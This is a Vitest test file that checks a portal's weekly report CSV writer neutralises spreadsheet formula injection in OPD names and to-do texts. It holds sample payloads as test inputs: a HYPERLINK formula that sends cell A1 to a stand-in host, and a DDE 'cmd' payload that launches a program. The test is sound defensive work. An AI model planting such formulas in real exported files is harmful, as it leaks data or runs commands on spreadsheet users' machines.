/**
 * The weekly report CSV goes through the portal's one CSV writer: an OPD name or a to-do text that a spreadsheet
 * would run as a formula (OWASP "CSV Injection") arrives as text, and the numeric columns stay numbers.
 */
import { describe, expect, it } from 'vitest';
import { CSV_HEADER, formatCsv } from '../../src/compliance/format.ts';
import { computeReport } from '../../src/compliance/run.ts';
import { parseCsvRows } from '../../src/lib/csv.ts';

const VALID_FIXTURE = new URL('../fixtures/valid/', import.meta.url).pathname;

describe('report CSV', () => {
  it('neutralises formula cells from OPD names and to-do texts', async () => {
    const { report } = await computeReport(VALID_FIXTURE, { week: { year: 2026, week: 47 }, now: Date.parse('2026-11-25T00:00:00+07:00') });
    const opd = report.opd[0];
    opd.nama = '=HYPERLINK("https://contoh.invalid/?d="&A1,"klik")';
    opd.todo = ["-2+3+cmd|' /C calc'!A0", '@SUM(1+1)'];
    const rows = parseCsvRows(formatCsv(report), ',');
    const cell = (name: string) => rows[1].cells[CSV_HEADER.indexOf(name)];
    expect(cell('nama')).toBe('\'=HYPERLINK("https://contoh.invalid/?d="&A1,"klik")');
    expect(cell('todo')).toBe("'-2+3+cmd|' /C calc'!A0 | @SUM(1+1)");
    expect(cell('skor')).toMatch(/^\d+\.\d$/);
    expect(cell('unggahan_total')).toBe(String(opd.unggahan.total));
  });
});
